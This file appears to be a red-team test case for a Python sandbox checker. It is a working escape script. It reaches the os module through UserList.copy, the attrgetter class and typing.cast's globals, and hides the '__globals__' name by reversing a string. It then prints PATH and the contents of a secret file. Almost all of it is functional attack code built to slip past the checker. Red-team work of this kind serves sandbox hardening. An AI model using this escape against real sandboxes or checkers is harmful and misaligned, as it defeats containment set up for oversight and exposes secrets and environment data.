# family: red team, round 30 (library methods that build from self.__class__, read off classes)
# Escalation of rt_005: type(self).copy(int) on M(UserList) gives <class 'type'>. meta(attrgetter("real"))
# is the attrgetter class itself, held in a local the checker does not know; calling it with a name built at
# run time reads typing.cast.__globals__, whose "sys" leads to sys.modules["os"]: print the forbidden
# module's repr, an environment value and the contents of /tmp/r30/work/secret.txt.
from collections import UserList
from operator import attrgetter
from typing import cast


class M(UserList):
    def make(self):
        return type(self).copy(int)


def entry():
    meta = M().make()
    getter_cls = meta(attrgetter("real"))
    name = "".join(reversed("__slabolg__"))
    g = getter_cls(name)(cast)
    print("globals keys:", sorted(g)[:8])
    osmod = g["sys"].modules["os"]
    print("module:", osmod)
    print("environ PATH:", osmod.environ["PATH"])
    fd = osmod.open("/tmp/r30/work/secret.txt", 0)
    print("secret:", osmod.read(fd, 200))
    osmod.close(fd)
    return "done"


entry()
